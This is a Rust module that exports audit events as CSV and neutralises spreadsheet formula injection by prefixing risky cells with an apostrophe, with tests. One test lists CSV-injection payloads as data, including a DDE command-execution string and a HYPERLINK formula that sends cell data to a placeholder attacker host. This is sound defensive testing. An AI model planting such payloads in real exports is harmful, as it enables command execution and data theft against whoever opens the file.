//! Events as a table that spreadsheets open, without anything in it that they would run.

use std::io::{self, Write};

use csv::{QuoteStyle, Terminator, WriterBuilder};
use kiavi_base::Device;
use serde_json::Value;

use super::EventLine;
use crate::{Facts, SealedGroup};

/// The columns. Those from `ip` on are empty unless they were opened; `browser`, `os` and `device` are what the user agent
/// tells, and `personal` has the fields about the subject in JSON.
const COLUMNS: [&str; 18] = [
    "index",
    "id",
    "type",
    "outcome",
    "at",
    "request_id",
    "actor",
    "subject",
    "method",
    "detail",
    "ip",
    "country",
    "network",
    "user_agent",
    "browser",
    "os",
    "device",
    "personal",
];

/// Writes a table (RFC 4180), a row for each event.
pub struct CsvTable<W: Write>(csv::Writer<W>);

impl<W: Write> std::fmt::Debug for CsvTable<W> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("CsvTable(…)")
    }
}

impl<W: Write> CsvTable<W> {
    /// Begins the table with the names of its columns.
    ///
    /// # Errors
    /// Those of the writer.
    pub fn new(writer: W) -> io::Result<Self> {
        let mut writer = WriterBuilder::new()
            .quote_style(QuoteStyle::Always)
            .terminator(Terminator::CRLF)
            .from_writer(writer);
        writer.write_record(COLUMNS)?;
        Ok(Self(writer))
    }

    /// Adds an event.
    ///
    /// # Errors
    /// Those of the writer.
    pub fn row(&mut self, line: &EventLine) -> io::Result<()> {
        Ok(self.0.write_record(cells(line).map(harmless))?)
    }

    /// Ends the table.
    ///
    /// # Errors
    /// Those of the writer.
    pub fn finish(self) -> io::Result<W> {
        self.0.into_inner().map_err(|error| error.into_error())
    }
}

impl EventLine {
    /// The names of the columns of [`Self::to_csv`], with their line break.
    pub fn csv_head() -> String {
        csv_row(COLUMNS.map(str::to_owned))
    }

    /// The row of a table that is written piece by piece, as [`CsvTable`] writes it; with its line break.
    pub fn to_csv(&self) -> String {
        csv_row(cells(self))
    }
}

/// What stands in each column.
fn cells(line: &EventLine) -> [String; 18] {
    let text = |text: &Option<String>| text.clone().unwrap_or_default();
    let of_request = |name: &str| {
        let value = opened(line, SealedGroup::Request).find_map(|fields| fields.get(name)?.as_str());
        value.unwrap_or_default().to_owned()
    };
    let about_subject: Vec<_> = opened(line, SealedGroup::Subject).cloned().map(Value::Object).collect();
    let personal = match about_subject.as_slice() {
        [] => String::new(),
        [one] => one.to_string(),
        several => Value::Array(several.to_vec()).to_string(),
    };
    let user_agent = of_request("user_agent");
    let device = Device::of(&user_agent);
    [
        line.index.map(|index| index.to_string()).unwrap_or_default(),
        text(&line.id),
        // An event that cannot be read is told as such, not left out.
        line.kind.clone().unwrap_or_else(|| "(unreadable)".to_owned()),
        text(&line.outcome),
        text(&line.at),
        text(&line.request_id),
        text(&line.actor),
        text(&line.subject),
        text(&line.method),
        line.detail.as_ref().map(Value::to_string).unwrap_or_default(),
        of_request("ip"),
        of_request("country"),
        of_request("network"),
        user_agent,
        device.browser().unwrap_or_default().to_owned(),
        device.system().unwrap_or_default().to_owned(),
        device.device().unwrap_or_default().to_owned(),
        personal,
    ]
}

/// The fields of a group that were opened.
fn opened(line: &EventLine, group: SealedGroup) -> impl Iterator<Item = &Facts> {
    let of_group = line.personal.iter().filter(move |personal| personal.group == group.name());
    of_group.filter_map(|personal| personal.fields.as_ref())
}

/// One row of a table of anything (RFC 4180), with its line break; no cell of it is a formula.
pub fn csv_row(cells: impl IntoIterator<Item = String>) -> String {
    let cells = cells.into_iter().map(|cell| format!("\"{}\"", harmless(cell).replace('"', "\"\"")));
    let mut row = cells.collect::<Vec<_>>().join(",");
    row.push_str("\r\n");
    row
}

/// A cell that no spreadsheet takes for a formula: those that would begin one begin with an apostrophe instead (OWASP, CSV
/// Injection). The wide forms are what some spreadsheets turn into the narrow ones.
fn harmless(cell: String) -> String {
    const BEGINNINGS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '\0'];
    if cell.starts_with(BEGINNINGS) { format!("'{cell}") } else { cell }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;
    use crate::readable::PersonalLine;

    fn facts(value: Value) -> Facts {
        let Value::Object(facts) = value else { panic!("an object") };
        facts
    }

    fn table(lines: &[EventLine]) -> String {
        let mut table = CsvTable::new(Vec::new()).unwrap();
        lines.iter().for_each(|line| table.row(line).unwrap());
        String::from_utf8(table.finish().unwrap()).unwrap()
    }

    fn read(text: &str) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn a_row_has_what_was_opened() {
        let personal = |group, fields| PersonalLine { holder: "user:x".to_owned(), group, fields };
        let line = EventLine {
            index: Some(3),
            kind: Some("email.changed".to_owned()),
            detail: Some(json!({"a": 1})),
            personal: vec![
                personal(
                    "request",
                    Some(facts(json!({
                        "ip": "192.0.2.1", "country": "FR", "network": "AS3215 Orange", "user_agent": "curl/8, \"x\"",
                    }))),
                ),
                personal("subject", Some(facts(json!({"email": "a@b.example"})))),
            ],
            ..EventLine::default()
        };
        let closed = EventLine { personal: vec![personal("request", None)], ..line.clone() };
        let rows = read(&table(&[line, closed]));
        assert_eq!(rows[0], COLUMNS);
        let request = ["192.0.2.1", "FR", "AS3215 Orange", "curl/8, \"x\"", "curl", "", "bot"];
        assert_eq!(rows[1][10..17], request);
        assert_eq!(rows[1][17..], [r#"{"email":"a@b.example"}"#]);
        assert!(rows[2][10..].iter().all(String::is_empty));
        assert_eq!((rows[1][0].as_str(), rows[1][9].as_str()), ("3", r#"{"a":1}"#));
        assert_eq!(read(&table(&[EventLine::default()]))[1][2], "(unreadable)");
    }

    #[test]
    fn no_cell_is_a_formula() {
        for hostile in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1",
            "=cmd|' /C calc'!A0",
            "\0=1",
            "=HYPERLINK(\"https://evil.example?\"&A1)",
        ] {
            let fields = facts(json!({"ip": hostile, "network": hostile, "user_agent": hostile}));
            let line = EventLine {
                id: Some(hostile.to_owned()),
                actor: Some(hostile.to_owned()),
                method: Some(hostile.to_owned()),
                detail: Some(json!(hostile)),
                personal: vec![PersonalLine {
                    holder: String::new(),
                    group: "request",
                    fields: Some(fields),
                }],
                ..EventLine::default()
            };
            let text = table(&[line]);
            let rows = read(&text);
            for column in [1, 6, 8, 10, 12, 13] {
                assert_eq!(rows[1][column], format!("'{hostile}"), "{column}");
            }
        }
        assert_eq!(harmless("a=1".to_owned()), "a=1");
    }

    proptest! {
        #[test]
        fn cells_stay_in_their_cells(texts in prop::collection::vec("(.|\r|\n|\"|,|=|\t){0,20}", 4)) {
            let line = EventLine {
                id: Some(texts[0].clone()),
                actor: Some(texts[1].clone()),
                subject: Some(texts[2].clone()),
                method: Some(texts[3].clone()),
                ..EventLine::default()
            };
            let text = table(&[line.clone(), line.clone()]);
            let by_piece = EventLine::csv_head() + &line.to_csv() + &line.to_csv();
            prop_assert_eq!(&text, &by_piece);
            let rows = read(&text);
            prop_assert_eq!(rows.len(), 3);
            for row in &rows[1..] {
                prop_assert_eq!(row.len(), COLUMNS.len());
                for (cell, text) in [1, 6, 7, 8].into_iter().zip(&texts) {
                    let quoted = format!("'{text}");
                    prop_assert!(row[cell] == *text || row[cell] == quoted);
                    prop_assert!(!row[cell].starts_with(['=', '+', '-', '@', '\t', '\r']));
                }
            }
        }
    }
}
